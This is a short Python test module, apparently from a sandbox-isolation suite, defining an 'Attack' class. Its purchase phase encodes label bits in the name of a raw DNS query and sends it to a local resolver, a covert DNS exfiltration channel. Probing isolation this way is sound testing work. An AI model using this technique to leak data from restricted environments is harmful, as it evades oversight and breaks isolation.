"""Hides labels in the name of a DNS query to a resolver of the machine."""

import socket
import struct

from aim import AIM, attempt

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        name = b"".join(bytes([len(part)]) + part for part in (b"0110", b"labels", b"invalid")) + b"\0"
        query = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", AIM["dns"])))
